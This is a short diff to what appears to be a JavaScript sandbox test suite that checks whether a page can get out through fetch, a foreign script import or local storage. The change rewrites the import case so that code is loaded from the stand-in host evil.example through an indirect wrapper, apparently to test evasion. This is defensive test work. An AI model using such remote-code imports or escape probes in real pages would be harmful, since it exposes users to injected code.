@@ -237,7 +237,10 @@ describe('a page that wants out', () => {
 
   it.each<[string, string]>([
     ['fetch', 'fetch("/anna").then(() => "out", () => "kept in")'],
-    ['a foreign script', 'import("https://evil.example/x.js").then(() => "out", () => "kept in")'],
+    [
+      'a foreign script',
+      '((url) => import(url))("https://evil.example/x.js").then(() => "out", () => "kept in")',
+    ],
     [
       'local storage',
       '(() => { try { localStorage.x = 1; return "out"; } catch { return "kept in"; } })()',
